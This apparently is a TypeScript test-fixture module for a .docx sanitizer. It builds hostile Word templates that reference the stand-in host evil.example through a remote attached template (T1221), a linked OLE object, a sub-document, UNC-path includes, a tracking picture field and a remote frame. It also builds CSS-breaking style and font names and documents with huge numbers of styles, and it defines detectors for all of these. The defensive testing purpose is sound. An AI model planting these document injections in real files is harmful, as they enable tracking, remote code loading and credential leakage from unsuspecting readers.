// Real templates with an attacker's additions: an attached remote .dotm (T1221), a linked OLE object, a
// sub-document, an external image, a frame, a CSS-breaking style id and font name. Built from a real .docx's parts.
import { DOMParser, type Element } from '@xmldom/xmldom';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';

export const EVIL = 'https://evil.example';
export const EVIL_STYLE_ID = 'A{}body{display:none}.b';
export const EVIL_FONT = 'x;}body{display:none}.y{';
export const SAFE_LINK = 'https://example.com/kept';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const text = (bytes: Uint8Array | undefined) => Buffer.from(bytes ?? new Uint8Array()).toString('utf8');

function addRelationships(rels: string | undefined, entries: string): string {
  const base =
    rels ??
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>';
  return base.replace('</Relationships>', `${entries}</Relationships>`);
}

const rel = (id: string, type: string, target: string, external = true) =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/>`;

/** A drawing (inline picture) whose image is linked, not embedded: Word fetches it when the document opens. */
function linkedPicture(relId: string): string {
  return (
    '<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="952500" cy="952500"/><wp:docPr id="901" name="Linked"/>' +
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">' +
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="901" name="Linked"/><pic:cNvPicPr/></pic:nvPicPr>' +
    `<pic:blipFill><a:blip r:link="${relId}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>' +
    '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
  );
}

/** The template's parts with every hostile addition; its body holds `{{content}}`, so the body is kept in outputs. */
export function hostileTemplate(base: Uint8Array): Uint8Array {
  const parts = unzipSync(base);
  const put = (name: string, value: string) => {
    parts[name] = strToU8(value);
  };
  const docRels = 'word/_rels/document.xml.rels';
  put(
    docRels,
    addRelationships(
      parts[docRels] ? text(parts[docRels]) : undefined,
      rel('rIdEvilOle', 'oleObject', `${EVIL}/ole.xlsx`) +
        rel('rIdEvilSub', 'subDocument', `${EVIL}/sub.docx`) +
        rel('rIdEvilImg', 'image', `${EVIL}/pixel.png`) +
        rel('rIdKeptLink', 'hyperlink', SAFE_LINK) +
        rel('rIdEvilChunk', 'aFChunk', '\\\\evil.example\\share\\chunk.htm', false),
    ),
  );
  const body =
    '<w:p><w:r><w:t>{{content}}</w:t></w:r></w:p>' +
    `<w:p><w:pPr><w:pStyle w:val="${EVIL_STYLE_ID}"/></w:pPr><w:r><w:rPr><w:rFonts w:ascii="${EVIL_FONT}" w:hAnsi="${EVIL_FONT}"/></w:rPr><w:t>styled</w:t></w:r></w:p>` +
    '<w:p><w:subDoc r:id="rIdEvilSub"/></w:p>' +
    '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="rIdEvilOle" UpdateMode="Always"/></w:object></w:r></w:p>' +
    `<w:p>${linkedPicture('rIdEvilImg')}</w:p>` +
    '<w:altChunk r:id="rIdEvilChunk"/>' +
    '<w:p><w:hyperlink r:id="rIdKeptLink"><w:r><w:t>kept link</w:t></w:r></w:hyperlink></w:p>' +
    // Fields that fetch: a tracking picture (complex field, instruction split over two runs) and an included file.
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE</w:instrText></w:r>' +
    `<w:r><w:instrText xml:space="preserve">PICTURE "${EVIL}/track.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>` +
    '<w:r><w:t>tracked</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>' +
    '<w:p><w:fldSimple w:instr=" INCLUDETEXT \\\\evil.example\\share\\x.docx "><w:r><w:t>included</w:t></w:r></w:fldSimple></w:p>' +
    '<w:p><w:fldSimple w:instr=" DATE "><w:r><w:t>kept date</w:t></w:r></w:fldSimple></w:p>';
  const doc = text(parts['word/document.xml']);
  const bodyStart = doc.indexOf('>', doc.indexOf('<w:body')) + 1;
  const sectPr = doc.lastIndexOf('<w:sectPr');
  put('word/document.xml', `${doc.slice(0, bodyStart)}${body}${doc.slice(sectPr)}`);

  const settingsRels = 'word/_rels/settings.xml.rels';
  put(
    settingsRels,
    addRelationships(
      parts[settingsRels] ? text(parts[settingsRels]) : undefined,
      rel('rIdEvilTpl', 'attachedTemplate', `${EVIL}/t1221.dotm`),
    ),
  );
  const settings = text(parts['word/settings.xml']);
  const withNs = settings.includes('xmlns:r=')
    ? settings
    : settings.replace('<w:settings ', `<w:settings xmlns:r="${REL}" `);
  const at = withNs.indexOf('>', withNs.indexOf('<w:settings')) + 1;
  put('word/settings.xml', `${withNs.slice(0, at)}<w:attachedTemplate r:id="rIdEvilTpl"/>${withNs.slice(at)}`);

  // A frameset whose frame's source is remote (webSettings.xml, added when the template has none).
  const webRel = 'word/_rels/webSettings.xml.rels';
  if (!parts['word/webSettings.xml']) {
    put(
      docRels,
      text(parts[docRels]).replace(
        '</Relationships>',
        rel('rIdWebSettings', 'webSettings', 'webSettings.xml', false) + '</Relationships>',
      ),
    );
    put(
      '[Content_Types].xml',
      text(parts['[Content_Types].xml']).replace(
        '</Types>',
        '<Override PartName="/word/webSettings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.webSettings+xml"/></Types>',
      ),
    );
  }
  put(
    'word/webSettings.xml',
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:webSettings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}"><w:frameset><w:frame><w:name w:val="evil"/><w:sourceFileName r:id="rIdEvilFrame"/></w:frame></w:frameset></w:webSettings>`,
  );
  put(
    webRel,
    addRelationships(
      parts[webRel] ? text(parts[webRel]) : undefined,
      rel('rIdEvilFrame', 'frame', `${EVIL}/frame.htm`),
    ),
  );

  const styles = text(parts['word/styles.xml']);
  put(
    'word/styles.xml',
    styles.replace(
      '</w:styles>',
      `<w:style w:type="paragraph" w:customStyle="1" w:styleId="${EVIL_STYLE_ID}"><w:name w:val="Evil"/><w:basedOn w:val="Normal"/><w:next w:val="${EVIL_STYLE_ID}"/>` +
        `<w:rPr><w:rFonts w:ascii="${EVIL_FONT}" w:hAnsi="${EVIL_FONT}"/></w:rPr></w:style></w:styles>`,
    ),
  );
  const fonts = text(parts['word/fontTable.xml']);
  const evilFont = `<w:font w:name="${EVIL_FONT}"><w:family w:val="auto"/></w:font>`;
  const fontsOpen = fonts.indexOf('>', fonts.indexOf('<w:fonts')) + 1;
  const selfClosing = fonts.charAt(fontsOpen - 2) === '/';
  put(
    'word/fontTable.xml',
    selfClosing
      ? `${fonts.slice(0, fontsOpen - 2)}>${evilFont}</w:fonts>`
      : `${fonts.slice(0, fontsOpen)}${evilFont}${fonts.slice(fontsOpen)}`,
  );

  const types = text(parts['[Content_Types].xml']);
  if (!types.includes('Extension="rels"')) throw new Error('base template has no rels default');
  return zipSync(parts);
}

const R_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PLAIN_ID = /^[\p{L}\p{N}_-]+$/u;

function elements(xml: string): Element[] {
  const doc = new DOMParser().parseFromString(xml, 'text/xml');
  const list = doc.getElementsByTagName('*');
  return Array.from({ length: list.length }, (_, i) => list.item(i)).filter((e): e is Element => e !== null);
}

/** Every finding that would let a package reach outside itself or dangle: returned as sentences, empty when clean. */
export function externalFindings(docx: Uint8Array): string[] {
  const parts = unzipSync(docx);
  const found: string[] = [];
  for (const [name, bytes] of Object.entries(parts)) {
    if (!name.endsWith('.rels')) continue;
    const owner = name.replace('_rels/', '').replace(/\.rels$/, '');
    const ids = new Set<string>();
    for (const rel of elements(strFromU8(bytes)).filter((e) => e.localName === 'Relationship')) {
      ids.add(rel.getAttribute('Id') ?? '');
      const type = rel.getAttribute('Type') ?? '';
      const target = rel.getAttribute('Target') ?? '';
      const external = rel.getAttribute('TargetMode') === 'External' || /^[a-z]+:|^[\\/]{2}/i.test(target);
      if (external && !type.endsWith('/hyperlink')) found.push(`${name}: external ${type} → ${target}`);
    }
    const ownerBytes = parts[owner];
    if (!ownerBytes) continue;
    for (const el of elements(strFromU8(ownerBytes))) {
      for (let i = 0; i < el.attributes.length; i++) {
        const attr = el.attributes.item(i);
        if (attr?.namespaceURI === R_NS && !ids.has(attr.value))
          found.push(`${owner}: ${el.tagName} ${attr.name}="${attr.value}" dangles`);
      }
    }
  }
  return found;
}

/** Style ids that are not plain identifiers and font names with CSS-breaking characters, in every part. */
export function cssFindings(docx: Uint8Array): string[] {
  const found: string[] = [];
  for (const [name, bytes] of Object.entries(unzipSync(docx))) {
    if (!name.endsWith('.xml')) continue;
    for (const el of elements(strFromU8(bytes))) {
      for (const attr of ['w:styleId', 'w:val']) {
        const value = el.getAttribute(attr);
        if (
          value !== null &&
          (attr === 'w:styleId' || /^(pStyle|rStyle|tblStyle|basedOn|next|link)$/.test(el.localName ?? '')) &&
          !PLAIN_ID.test(value)
        )
          found.push(`${name}: ${el.tagName} ${value}`);
      }
      for (const attr of ['w:ascii', 'w:hAnsi', 'w:name', 'typeface']) {
        const value = el.getAttribute(attr);
        if (value !== null && /[;{}<>"'\\]/.test(value)) found.push(`${name}: ${el.tagName} ${attr}=${value}`);
      }
    }
  }
  return found;
}

/** The template with `count` extra paragraph styles (each a few dozen bytes: 400,000 make a ~35 MB styles.xml). */
export function manyStyles(base: Uint8Array, count: number): Uint8Array {
  const parts = unzipSync(base);
  const styles = strFromU8(parts['word/styles.xml'] ?? new Uint8Array());
  const extra: string[] = [];
  for (let i = 0; i < count; i++)
    extra.push(`<w:style w:type="paragraph" w:styleId="S${i}"><w:name w:val="S${i}"/></w:style>`);
  parts['word/styles.xml'] = strToU8(styles.replace('</w:styles>', `${extra.join('')}</w:styles>`));
  return zipSync(parts);
}

/** The template with `count` extra numbering definitions (abstract and concrete, one each per step). */
export function manyNumberings(base: Uint8Array, count: number): Uint8Array {
  const parts = unzipSync(base);
  const numbering = strFromU8(parts['word/numbering.xml'] ?? new Uint8Array());
  const abstract: string[] = [];
  const nums: string[] = [];
  for (let i = 0; i < count; i++) {
    abstract.push(
      `<w:abstractNum w:abstractNumId="${9000 + i}"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/></w:lvl></w:abstractNum>`,
    );
    nums.push(`<w:num w:numId="${9000 + i}"><w:abstractNumId w:val="${9000 + i}"/></w:num>`);
  }
  const firstNum = numbering.indexOf('<w:num ');
  const withAbstract =
    firstNum < 0
      ? numbering.replace('</w:numbering>', `${abstract.join('')}</w:numbering>`)
      : `${numbering.slice(0, firstNum)}${abstract.join('')}${numbering.slice(firstNum)}`;
  parts['word/numbering.xml'] = strToU8(withAbstract.replace('</w:numbering>', `${nums.join('')}</w:numbering>`));
  return zipSync(parts);
}

/** The template with parts replaced (a string or bytes) or removed (null). */
export function withParts(base: Uint8Array, changes: Record<string, string | Uint8Array | null>): Uint8Array {
  const parts = unzipSync(base);
  for (const [name, value] of Object.entries(changes)) {
    if (value === null) delete parts[name];
    else parts[name] = typeof value === 'string' ? strToU8(value) : new Uint8Array(value);
  }
  return zipSync(parts);
}

/** One part of a .docx as text. */
export function partText(docx: Uint8Array, name: string): string {
  return strFromU8(unzipSync(docx)[name] ?? new Uint8Array());
}

/** The package with part `from` (in word/) stored as `to`, its relationship and content type following it. */
export function renamePart(docx: Uint8Array, from: string, to: string): Uint8Array {
  const parts = unzipSync(docx);
  const bytes = parts[`word/${from}`];
  if (!bytes) throw new Error(`no word/${from}`);
  delete parts[`word/${from}`];
  parts[`word/${to}`] = bytes;
  const rels = 'word/_rels/document.xml.rels';
  parts[rels] = strToU8(strFromU8(parts[rels] ?? new Uint8Array()).replace(`Target="${from}"`, `Target="${to}"`));
  const types = '[Content_Types].xml';
  parts[types] = strToU8(
    strFromU8(parts[types] ?? new Uint8Array()).replace(`PartName="/word/${from}"`, `PartName="/word/${to}"`),
  );
  return zipSync(parts);
}
